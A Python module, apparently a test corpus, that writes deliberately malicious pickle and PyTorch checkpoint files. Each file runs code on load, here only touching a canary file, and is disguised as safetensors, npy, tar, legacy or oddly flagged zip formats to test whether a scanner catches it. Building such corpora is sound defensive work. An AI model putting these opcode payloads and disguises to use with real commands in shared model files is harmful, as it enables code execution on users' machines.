"""Checkpoints that would run code if anything unpickled them: each leaves a file behind as it does.

`write_corpus(folder, canaries)` writes them all; whatever runs makes a file in `canaries`.
"""

from __future__ import annotations

import io
import marshal
import pickle
import tarfile
import zipfile
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

STOP = b"."


def call(module: str, name: str, *arguments: Any) -> bytes:
    """Opcodes that push the result of module.name(*arguments)."""
    return f"c{module}\n{name}\n".encode() + pushed(arguments) + b"R"


def pushed(value: Any) -> bytes:
    """Opcodes that push a plain value, without frame and end."""
    return pickle.dumps(value, protocol=2)[2:-1]


def calls(script: Path, canary: Path) -> Iterator[tuple[str, bytes]]:
    """One payload for each way to run something: a name, and its opcodes."""
    shell, file = f"touch '{canary}'", str(canary)
    line = f"open({file!r}, 'w').close()"
    code = marshal.dumps(compile(line, "x", "exec"))
    simple: dict[str, tuple[str, str, tuple[Any, ...]]] = {
        "os-system": ("os", "system", (shell,)),
        "posix-system": ("posix", "system", (shell,)),
        "os-popen": ("os", "popen", (shell,)),
        "os-mkdir": ("os", "mkdir", (file,)),
        "os-open": ("os", "open", (file, 0o101)),
        "subprocess-call": ("subprocess", "call", (["touch", file],)),
        "subprocess-popen": ("subprocess", "Popen", (["touch", file],)),
        "subprocess-output": ("subprocess", "check_output", (["touch", file],)),
        "subprocess-getoutput": ("subprocess", "getoutput", (shell,)),
        "exec": ("builtins", "exec", (line,)),
        "eval": ("builtins", "eval", (line,)),
        "open": ("builtins", "open", (file, "w")),
        "old-exec": ("__builtin__", "exec", (line,)),
        "io-open": ("io", "open", (file, "w")),
        "codecs-open": ("codecs", "open", (file, "w")),
        "runpy": ("runpy", "run_path", (str(script),)),
        "pip-main": ("pip", "main", (["--log", file, "list"],)),
        "pip-internal": ("pip._internal.cli.main", "main", (["--log", file, "list"],)),
        "torch-hub": ("torch.hub", "load", (str(script.parent), "model", False, False, "local")),
        "hub-local": ("torch.hub", "_load_local", (str(script.parent), "model")),
        "torch-load": ("torch.serialization", "load", (str(script.with_suffix(".pkl")),)),
        "storage-bytes": ("torch.storage", "_load_from_bytes", (b"\x80\x02" + STOP,)),
        "pickle-loads": ("pickle", "loads", (b"cos\nsystem\n" + pushed((shell,)) + b"R.",)),
        "c-pickle-loads": ("_pickle", "loads", (b"cos\nsystem\n" + pushed((shell,)) + b"R.",)),
        "timeit": ("timeit", "timeit", (line, "pass")),
        "profile": ("cProfile", "run", (line,)),
        "pdb": ("pdb", "run", (line,)),
        "doctest": ("doctest", "debug_script", (line,)),
        "pty": ("pty", "spawn", (["touch", file],)),
        "shutil": ("shutil", "copyfile", (str(script), file)),
        "logging": ("logging", "FileHandler", (file,)),
        "sqlite": ("sqlite3", "connect", (file,)),
        "dbm": ("dbm.dumb", "open", (file,)),
        "zipfile": ("zipfile", "ZipFile", (file, "w")),
        "ctypes": ("ctypes", "CDLL", (str(script),)),
        "numpy-tofile": ("numpy", "save", (file, 1)),
        "numpy-load": ("numpy", "load", (str(script.with_suffix(".npy")), None, True)),
        "importlib": ("importlib", "import_module", (script.stem,)),
        "imp-loader": ("importlib.machinery", "SourcelessFileLoader", ("x", str(script))),
        "yaml": ("yaml", "unsafe_load", (f"!!python/object/apply:os.system [{shell!r}]",)),
        "numexpr": ("torch._dynamo.guards", "eval", (line,)),
        "partial": ("functools", "partial", (0,)),
        "hope": ("hope_core.runs.storage", "write_bytes", (file, b"x")),
    }
    for name, (module, attribute, arguments) in simple.items():
        yield name, call(module, attribute, *arguments)
    function = b"ctypes\nFunctionType\n(" + call("marshal", "loads", code) + b"}tR)R"
    yield "marshal", function
    system = call("importlib", "import_module", "os") + b"X\x06\x00\x00\x00system"
    yield "getattr", b"cbuiltins\ngetattr\n(" + system + b"tR" + pushed((shell,)) + b"R"
    yield "instance", b"(" + pushed(shell) + b"ios\nsystem\n"
    yield "object", b"(cos\nsystem\n" + pushed(shell) + b"o"


def write_corpus(folder: Path, canaries: Path) -> list[Path]:
    """Write every payload, in the container of a torch checkpoint or an odder one."""
    script = folder / "hubconf.py"
    script.write_text(
        f"open({str(canaries / 'script')!r}, 'w').close()\ndependencies = []\ndef model(): pass\n"
    )
    written: list[Path] = []
    for name, opcodes in calls(script, canaries / "x"):
        path = folder / f"{name}.pt"
        path.write_bytes(torch_zip(b"\x80\x02" + opcodes + STOP))
        written.append(path)
    shell = f"touch '{canaries / 'x'}'"
    system = call("os", "system", shell)
    for name, data in odd_files(system, shell):
        path = folder / name
        path.write_bytes(data)
        written.append(path)
    (folder / "dcp").mkdir()
    (folder / "dcp" / ".metadata").write_bytes(b"\x80\x02" + system + STOP)
    return [*written, folder / "dcp"]


def odd_files(system: bytes, shell: str) -> Iterator[tuple[str, bytes]]:
    """The same payload where a name, a flag or a format might mislead the reader."""
    plain = b"\x80\x02" + system + STOP
    packed = torch_zip(plain)
    yield "legacy.pt", plain
    yield "legacy-magic.pt", legacy(system)
    yield "renamed.safetensors", packed
    yield "RENAMED.SAFETENSORS", plain
    yield "renamed.zip", packed
    yield "renamed.yaml", packed
    yield "protocol-0.pt", b"cos\nsystem\n(S" + repr(shell).encode() + b"\ntR."
    yield "protocol-4.pt", b"\x80\x04\x95" + len(system).to_bytes(8, "little") + system + STOP
    yield "protocol-5.bin", b"\x80\x05" + system + STOP
    yield "second-pickle.pt", b"\x80\x02}." + plain
    yield "inside-dict.pt", torch_zip(b"\x80\x02}X\x01\x00\x00\x00a" + system + b"s.")
    yield "persistent.pt", torch_zip(b"\x80\x02(X\x07\x00\x00\x00storage" + system + b"tQ.")
    yield "bad-crc.pt", packed.replace(zip_sum(packed), b"\0\0\0\0")
    yield "encrypted-flag.pt", flagged(packed, 0x1)
    yield "odd-flag.pt", flagged(packed, 0x20)
    yield "nested.pt", zip_of({"archive/data.pkl": packed, "archive/version": b"3\n"})
    yield "two-pickles.pt", torch_zip(plain) + torch_zip(b"\x80\x02}.")
    yield "deflated.pt", torch_zip(plain, zipfile.ZIP_DEFLATED)
    yield (
        "torchscript.pt",
        zip_of(
            {
                "archive/data.pkl": plain,
                "archive/constants.pkl": plain,
                "archive/code/__torch__.py": b"import os\n",
                "archive/version": b"3\n",
            }
        ),
    )
    yield "array.npy", npy(system)
    yield "arrays.npz", zip_of({"a.npy": npy(system)})
    yield "old.tar", tar(plain)
    yield "header.safetensors", (8).to_bytes(8, "little") + b"{}      " + plain


def torch_zip(pickled: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    members = {
        "archive/data.pkl": pickled,
        "archive/byteorder": b"little",
        "archive/version": b"3\n",
    }
    return zip_of(members, method)


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_sum(packed: bytes) -> bytes:
    return packed[14:18]


def flagged(packed: bytes, bit: int) -> bytes:
    """Every header of the archive with one more flag."""
    changed = bytearray(packed)
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(magic)
        while at >= 0:
            changed[at + place] |= bit
            at = changed.find(magic, at + 1)
    return bytes(changed)


def legacy(payload: bytes) -> bytes:
    """The format before torch 1.6: magic number, protocol, facts, then the object."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True}]
    return b"".join(pickle.dumps(part, 2) for part in head) + b"\x80\x02" + payload + STOP


def npy(payload: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + payload + STOP


def tar(pickled: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(pickled)
            archive.addfile(member, io.BytesIO(pickled))
    return buffer.getvalue()
